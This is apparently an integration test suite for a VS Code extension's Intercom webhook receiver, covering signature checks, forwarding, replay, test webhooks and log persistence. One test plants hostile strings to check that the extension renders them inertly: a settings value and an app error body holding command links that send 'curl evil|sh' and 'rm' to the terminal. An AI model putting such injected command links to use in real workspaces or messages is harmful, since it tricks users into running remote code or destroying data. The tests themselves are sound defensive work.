// The webhook receiver, event log, forwarding, replay and test events in the real extension host,
// with the fake Intercom's deliverer sending the notifications and a local app receiving forwards.
import assert from 'node:assert/strict';
import net from 'node:net';
import * as vscode from 'vscode';
import type { EventNode } from '../../src/features/webhooks/tree';
import { findFreePort } from '../../src/webhooks/receiver';
import { signatureHeader } from '../../src/webhooks/signature';
import { deliverNotification, type DeliveryFlaw } from '../fake-intercom';
import { send, startLocalApp, type LocalApp } from '../support/localApp';
import { notificationLinks } from '../support/notificationLinks';
import { CLIENT_ID, CLIENT_SECRET, pointAt, setUserSettings, startSandbox, type Sandbox } from './sandbox';
import { ScriptedUi, activateExtension, until, type TestApi } from './support';

interface Row {
  label: string;
  description: string;
  tooltip: string;
  node: EventNode;
  item: vscode.TreeItem;
}

suite('Webhooks (real extension host, fake Intercom deliverer)', function () {
  this.timeout(60_000);
  let api: TestApi;
  let ui: ScriptedUi;
  let box: Sandbox;
  let app: LocalApp;
  let port: number;

  const rows = (parent?: EventNode): Row[] => api.webhooks.tree.getChildren(parent).map((node) => {
    const item = api.webhooks.tree.getTreeItem(node);
    const label = typeof item.label === 'string' ? item.label : item.label?.label ?? '';
    const tooltip = typeof item.tooltip === 'string' ? item.tooltip : item.tooltip?.value ?? '';
    return { label, description: String(item.description ?? ''), tooltip, node, item };
  });
  const rowFor = (what: string, match: (r: Row) => boolean) => until(() => rows().find(match), what);
  const start = async () => {
    const url = await vscode.commands.executeCommand<string>('intercom.startWebhookReceiver');
    assert.ok(url, JSON.stringify(ui.shown));
    return api.webhooks.load().receiverUrl!;
  };
  const deliver = async (topic: string, flaw: DeliveryFlaw = 'none') => {
    const [report] = await deliverNotification({ url: await start(), topic, secret: CLIENT_SECRET, flaw, retryDelaysMs: [] });
    assert.equal(report.delivered, true, JSON.stringify(report.attempts));
    return report;
  };

  suiteSetup(async () => {
    api = await activateExtension();
    box = await startSandbox();
    await pointAt(box.fake);
    api.ui.current = new ScriptedUi().answerInputs(CLIENT_ID, CLIENT_SECRET, box.bridgeUrl).answerPicks((items) => items[0]);
    assert.equal(await vscode.commands.executeCommand('intercom.configureApp'), true);
    port = await findFreePort();
  });
  suiteTeardown(async () => {
    await box.fake.close();
    await setUserSettings({ 'advanced.appBaseUrl': undefined, 'advanced.apiBaseUrl': undefined, 'oauth.clientId': undefined, 'oauth.redirectUrl': undefined, 'webhooks.port': undefined });
  });
  setup(async () => {
    ui = new ScriptedUi();
    api.ui.current = ui;
    app = await startLocalApp();
    await setUserSettings({ 'webhooks.port': port, 'webhooks.forwardTo': undefined, 'webhooks.forwardTimeoutSeconds': undefined });
    await vscode.commands.executeCommand('intercom.clearWebhookEvents');
  });
  teardown(async () => {
    await vscode.commands.executeCommand('intercom.stopWebhookReceiver');
    await app.close();
  });

  test('start: listens on the configured port, HEAD → 200, the URL to register is shown with Copy; stop closes it', async () => {
    const url = await start();
    assert.equal(url, `http://127.0.0.1:${port}/`);
    assert.equal((await fetch(url, { method: 'HEAD' })).status, 200);
    const shown = await ui.waitForMessage((m) => m.text.startsWith('Webhook receiver on'));
    const publicUrl = (await vscode.env.asExternalUri(vscode.Uri.parse(url))).toString(true);
    // Which address to register, said once: a loopback or proxy address is named as not the one.
    if (publicUrl === url) assert.match(shown.text, new RegExp(`^Webhook receiver on port ${port} of this machine\\. .*register that HTTPS URL`), shown.text);
    else assert.match(shown.text, new RegExp(`reaches it at ${publicUrl.replace(/[.*+?^${}()|[\]\\/]/g, '\\$&')}, which Intercom cannot reach: do not register it\\..*register that HTTPS URL`), shown.text);
    assert.deepEqual(shown.actions.slice(0, 2), ['Copy URL', 'Open Developer Hub']);
    await vscode.commands.executeCommand('intercom.copyWebhookUrl');
    assert.equal(await vscode.env.clipboard.readText(), publicUrl);
    await vscode.commands.executeCommand('intercom.stopWebhookReceiver');
    await assert.rejects(fetch(url, { method: 'HEAD' }), 'nothing listens after Stop');
    await ui.waitForMessage((m) => m.text === `Webhook receiver stopped: nothing listens on :${port} any more.`);
  });

  test('port in use: a clear error offers another port, which then works', async () => {
    const squatter = net.createServer();
    await new Promise<void>((resolve) => squatter.listen(port, '127.0.0.1', resolve));
    try {
      ui.onMessage = (m) => m.actions.find((a) => a.startsWith('Use Port'));
      await vscode.commands.executeCommand('intercom.startWebhookReceiver');
      const error = ui.shown.find((m) => m.level === 'error')!;
      assert.match(error.text, new RegExp(`Port ${port} is already in use.*Use port (\\d+) instead`));
      const other = Number(/Use port (\d+)/.exec(error.text)![1]);
      assert.notEqual(other, port);
      assert.equal(api.webhooks.load().receiverUrl, `http://127.0.0.1:${other}/`);
      assert.equal((await fetch(`http://127.0.0.1:${other}/`, { method: 'HEAD' })).status, 200);
    } finally {
      squatter.close();
    }
  });

  test('a delivery is verified and logged; opening it shows the exact body pretty-printed with headers', async () => {
    const report = await deliver('conversation.user.created');
    const row = await rowFor('the delivery row', (r) => r.label === 'conversation.user.created');
    assert.match(row.description, /^✓ verified · attempt 1 · \d/);
    assert.equal((row.item.iconPath as vscode.ThemeIcon).id, 'pass');
    const document = await vscode.commands.executeCommand<vscode.TextDocument>('intercom.openWebhookEvent', row.node);
    assert.equal(document.uri.scheme, 'intercom-webhook');
    const text = document.getText();
    assert.ok(text.includes(`// x-hub-signature: ${report.signature}`), text);
    assert.ok(text.includes('// user-agent: intercom-parrot-service-client/1.0'), text);
    assert.ok(text.endsWith(`${JSON.stringify(JSON.parse(report.body), null, 2)}\n`), text);
  });

  test('failed signature checks say why; duplicates are grouped', async () => {
    await deliver('ticket.created', 'sha256');
    const sha = await rowFor('the SHA-256 row', (r) => r.label === 'ticket.created');
    assert.match(sha.description, /✗ SHA-256/);
    assert.match(sha.tooltip, /HMAC-SHA1/);
    await deliver('contact.user.created', 'reserialised');
    assert.match((await rowFor('the re-serialised row', (r) => r.label === 'contact.user.created')).tooltip, /re-serialised/);
    const copies = await deliverNotification({ url: api.webhooks.load().receiverUrl!, topic: 'company.updated', secret: CLIENT_SECRET, copies: 2, retryDelaysMs: [] });
    assert.equal(copies.length, 2);
    const group = await rowFor('the duplicate group', (r) => r.label === 'company.updated' && /×2 deliveries/.test(r.description));
    assert.equal(rows(group.node).length, 2);
  });

  test('signed with the secret of another app configured before: the check says so', async () => {
    await start(); // the feature has read the current app's secret already
    ui.answerInputs('another-app', 'another-secret', box.bridgeUrl).answerPicks((items) => items[0]);
    assert.equal(await vscode.commands.executeCommand('intercom.configureApp'), true);
    try {
      await deliver('admin.logged_in');
      const row = await rowFor('the other-app row', (r) => r.label === 'admin.logged_in');
      assert.match(row.description, /^✗ other app/);
      assert.match(row.tooltip, /another app you configured before/);
    } finally {
      ui.answerInputs(CLIENT_ID, CLIENT_SECRET, box.bridgeUrl).answerPicks((items) => items[0]);
      assert.equal(await vscode.commands.executeCommand('intercom.configureApp'), true);
    }
    await deliver('admin.logged_out');
    assert.match((await rowFor('the row after switching back', (r) => r.label === 'admin.logged_out')).description, /^✓ verified/);
  });

  test('bad input gets its 4xx and message, and is kept in the log', async () => {
    const url = await start();
    const json = { 'content-type': 'application/json' };
    const notJson = await send(url, { body: 'topic=ping', headers: json });
    assert.equal(notJson.status, 400);
    assert.match(notJson.body, /not JSON/);
    const get = await send(url, { method: 'GET' });
    assert.equal(get.status, 405);
    const large = await send(url, { headers: { ...json, 'content-length': 2 * 1024 * 1024 }, body: '{', stall: true });
    assert.equal(large.status, 413);
    // What a web page can send without asking first (CORS): a text/plain body, to a name it points at 127.0.0.1.
    assert.equal((await send(url, { body: '{}', headers: { 'content-type': 'text/plain' } })).status, 415);
    assert.equal((await send(url, { body: '{}', headers: { ...json, host: `rebound.example:${port}` } })).status, 421);
    await until(() => rows().length === 5, 'five rejected requests in the log');
    assert.deepEqual(rows().map((r) => r.description.split(' · ')[0]), ['421 unknown host', '415 not application/json', '413 over 1 MiB', '405 method not allowed', '400 not JSON']);
    assert.match(rows()[0].tooltip, /intercom\.webhooks\.tunnelHosts/);
    assert.ok(rows().every((r) => r.item.contextValue === 'intercom.webhookRejected'), 'no replay for rejected requests');
  });

  test('a large notification (over 64 KiB, parsed off the host\'s thread) is answered and logged with its topic', async () => {
    const url = await start();
    const body = JSON.stringify({ type: 'notification_event', id: 'notif_large', topic: 'conversation.admin.noted', data: { item: { parts: 'x'.repeat(200_000) } } });
    assert.equal((await send(url, { body, headers: { 'content-type': 'application/json' } })).status, 200);
    const row = await rowFor('the large row', (r) => r.label === 'conversation.admin.noted');
    assert.match(row.description, /no signature/);
  });

  test('a tunnel that keeps its own Host reaches the receiver once the user names it in intercom.webhooks.tunnelHosts', async () => {
    const url = await start();
    const tunnel = { 'content-type': 'application/json', host: 'abcd-1234.ngrok-free.app' };
    assert.equal((await send(url, { body: '{"id":"notif_tunnel"}', headers: tunnel })).status, 421);
    await setUserSettings({ 'webhooks.tunnelHosts': ['abcd-1234.ngrok-free.app'] });
    try {
      assert.equal((await send(url, { body: '{"id":"notif_tunnel"}', headers: tunnel })).status, 200);
    } finally {
      await setUserSettings({ 'webhooks.tunnelHosts': undefined });
    }
  });

  test('a forward target that is the receiver itself is refused, by any loopback name', async () => {
    await setUserSettings({ 'webhooks.forwardTo': `http://localhost:${port}/` });
    await start();
    assert.match((await ui.waitForMessage((m) => m.level === 'error')).text, /points at the webhook receiver itself/);
    await deliver('ping');
    const row = await rowFor('the ping row', (r) => r.label === 'ping');
    assert.doesNotMatch(row.description, /→/, 'not forwarded');
  });

  test('forwarding: byte for byte to the app; refused and slow say how to fix', async () => {
    await setUserSettings({ 'webhooks.forwardTo': app.url });
    const report = await deliver('conversation.admin.replied');
    const ok = await rowFor('the forward result', (r) => /→ 200 in \d+ ms/.test(r.description));
    assert.equal(app.received[0].body.toString(), report.body);
    assert.equal(app.received[0].headers['x-hub-signature'], report.signature);
    assert.match(ok.tooltip, /your app answered 200/);

    await setUserSettings({ 'webhooks.forwardTo': `http://127.0.0.1:${await findFreePort()}/hooks` });
    await deliver('ticket.closed');
    const refused = await rowFor('the refused row', (r) => r.label === 'ticket.closed' && /→ refused/.test(r.description));
    assert.match(refused.tooltip, /nothing listens there/);

    await setUserSettings({ 'webhooks.forwardTo': app.url, 'webhooks.forwardTimeoutSeconds': 1 });
    app.answer = { status: 200, body: '', hang: true };
    await deliver('ticket.resolved');
    const slow = await rowFor('the timed-out row', (r) => r.label === 'ticket.resolved' && /→ timed out/.test(r.description));
    assert.match(slow.tooltip, /did not answer within/);
  });

  test('forwarding away from this machine is refused unless the user allows it', async () => {
    await setUserSettings({ 'webhooks.forwardTo': 'https://example.com/hooks' });
    try {
      await start();
      const shown = await ui.waitForMessage((m) => m.level === 'error');
      assert.match(shown.text, /allowForwardToAnyHost/);
    } finally {
      await setUserSettings({ 'webhooks.forwardTo': undefined });
    }
  });

  test('replay sends the logged notification again, re-signed when it verified, as received when not, and counts it', async () => {
    await setUserSettings({ 'webhooks.forwardTo': app.url });
    const report = await deliver('contact.user.updated');
    const row = await rowFor('the forwarded row', (r) => /→ 200/.test(r.description));
    await vscode.commands.executeCommand('intercom.replayWebhook', row.node);
    assert.equal(app.received.length, 2);
    assert.equal(app.received[1].body.toString(), report.body);
    assert.equal(app.received[1].headers['x-hub-signature'], signatureHeader(report.body, CLIENT_SECRET), 're-signed with the app secret');
    assert.match(rows()[0].description, /replayed ×1/);
    assert.match((await ui.waitForMessage((m) => m.text.startsWith('Forwarded to'))).text, /answered 200 in \d+ ms\.$/);

    const forged = await deliver('contact.user.deleted', 'badSignature');
    const forgedRow = await rowFor('the forged row', (r) => r.label === 'contact.user.deleted' && /→ 200/.test(r.description));
    await vscode.commands.executeCommand('intercom.replayWebhook', forgedRow.node);
    assert.equal(app.received.length, 4);
    assert.equal(app.received[3].headers['x-hub-signature'], forged.signature, 'sent with the signature it came with');
    assert.match((await ui.waitForMessage((m) => /not re-signed/.test(m.text))).text, /vouch for bytes someone else chose/);
  });

  test('Send Test Webhook: topics used in this folder first; a saved fixture is what is sent, signed', async () => {
    await setUserSettings({ 'webhooks.forwardTo': app.url });
    const folder = vscode.workspace.workspaceFolders![0].uri;
    const fixture = vscode.Uri.joinPath(folder, '.intercom/webhooks/conversation.user.replied.json');
    await vscode.workspace.fs.delete(vscode.Uri.joinPath(folder, '.intercom'), { recursive: true }).then(undefined, () => undefined);
    let offered: string[] = [];
    const topic = (items: readonly vscode.QuickPickItem[]) => {
      offered = items.filter((i) => i.kind !== vscode.QuickPickItemKind.Separator).map((i) => i.label);
      return items.find((i) => i.label === 'conversation.user.replied');
    };
    ui.answerPicks(topic, (items) => items.find((i) => i.label === 'Save as Fixture'));
    assert.equal((await vscode.commands.executeCommand<vscode.Uri>('intercom.sendTestWebhook'))?.toString(), fixture.toString());
    assert.deepEqual(offered.slice(0, 2).sort(), ['conversation.user.created', 'conversation.user.replied'], 'the fixture folder\'s topics come first');
    const saved = JSON.parse(new TextDecoder().decode(await vscode.workspace.fs.readFile(fixture)));
    assert.equal(saved.topic, 'conversation.user.replied');
    assert.equal(saved.data.item.type, 'conversation');

    await vscode.workspace.fs.writeFile(fixture, Buffer.from('{"type":"notification_event", oops'));
    ui.answerPicks(topic, (items) => items.find((i) => i.label === 'Send'));
    assert.equal(await vscode.commands.executeCommand('intercom.sendTestWebhook'), undefined);
    assert.match((await ui.waitForMessage((m) => m.level === 'error')).text, /conversation\.user\.replied\.json is not JSON/);
    assert.equal(app.received.length, 0, 'a fixture that is not JSON is not sent');

    const edited = Buffer.from(`{"type":"notification_event","id":"notif_fixture","topic":"conversation.user.replied","edited":true}\n`);
    await vscode.workspace.fs.writeFile(fixture, edited);
    ui.answerPicks(topic, (items) => items.find((i) => i.label === 'Send'));
    await vscode.commands.executeCommand('intercom.sendTestWebhook');
    assert.deepEqual(app.received[0].body, edited, 'the fixture, byte for byte');
    assert.equal(app.received[0].headers['x-hub-signature'], signatureHeader(edited, CLIENT_SECRET));
    const row = await rowFor('the test event row', (r) => r.label === 'conversation.user.replied');
    assert.match(row.description, /^test · ✓ verified · → 200/);
    await vscode.workspace.fs.delete(vscode.Uri.joinPath(folder, '.intercom'), { recursive: true });
  });

  test('Copy as curl never contains the secret, and sends only where forwarding may go', async () => {
    await deliver('ping');
    const row = await rowFor('the ping row', (r) => r.label === 'ping');
    await vscode.commands.executeCommand('intercom.copyWebhookCurl', row.node);
    const curl = await vscode.env.clipboard.readText();
    assert.match(curl, /openssl dgst -sha1 -hmac "\$INTERCOM_CLIENT_SECRET"/);
    assert.ok(!curl.includes(CLIENT_SECRET));

    await vscode.env.clipboard.writeText('before');
    await setUserSettings({ 'webhooks.forwardTo': 'https://example.com/hooks' });
    await vscode.commands.executeCommand('intercom.copyWebhookCurl', row.node);
    assert.match((await ui.waitForMessage((m) => m.level === 'error')).text, /points away from this machine/);
    assert.equal(await vscode.env.clipboard.readText(), 'before', 'nothing copied');
  });

  test('a forward target the folder set puts no link in any message: Send Test Webhook, Replay, the app\'s error body, Copy as curl', async () => {
    // A cloned folder's settings.json: the fragment passes the loopback check and reads as a second URL.
    const planted = '[http://localhost:3000/webhooks](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)';
    await vscode.workspace.getConfiguration('intercom').update('webhooks.forwardTo', `${app.url}#${planted}`, vscode.ConfigurationTarget.Workspace);
    try {
      ui.answerPicks((items) => items.find((i) => i.label === 'ping'), (items) => items.find((i) => i.label === 'Send'));
      await vscode.commands.executeCommand('intercom.sendTestWebhook');
      const sent = await ui.waitForMessage((m) => m.text.startsWith('Forwarded to'));

      await deliver('contact.user.updated');
      const row = await rowFor('the forwarded row', (r) => r.label === 'contact.user.updated' && /→ 200/.test(r.description));
      app.answer = { status: 500, body: `[Restart the app](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22rm%22%7D) failed` };
      await vscode.commands.executeCommand('intercom.replayWebhook', row.node);
      const failed = await ui.waitForMessage((m) => m.text.includes('answered 500'));

      await vscode.commands.executeCommand('intercom.copyWebhookCurl', row.node);
      const copied = await ui.waitForMessage((m) => m.text.startsWith('Copied a curl command'));
      for (const shown of [sent, failed, copied]) {
        assert.ok(shown.text.includes('command:workbench.action.terminal.sendSequence'), `the planted text is still shown, as text: ${shown.text}`);
        assert.deepEqual(notificationLinks(shown.text), [], shown.text);
      }
    } finally {
      await vscode.workspace.getConfiguration('intercom').update('webhooks.forwardTo', undefined, vscode.ConfigurationTarget.Workspace);
    }
  });

  test('the log survives a reload, bodies included; Clear empties it', async () => {
    const report = await deliver('article.created');
    await rowFor('the row', (r) => r.label === 'article.created');
    await api.webhooks.reload();
    await api.webhooks.load().ready;
    assert.deepEqual(rows().map((r) => r.label), ['article.created'], 'read back from workspace storage');
    assert.match(rows()[0].description, /✓ verified/);
    const document = await vscode.commands.executeCommand<vscode.TextDocument>('intercom.openWebhookEvent', rows()[0].node);
    assert.ok(document.getText().endsWith(`${JSON.stringify(JSON.parse(report.body), null, 2)}\n`), document.getText());
    await vscode.commands.executeCommand('intercom.clearWebhookEvents');
    await api.webhooks.reload();
    await api.webhooks.load().ready;
    assert.deepEqual(rows(), []);
  });
});
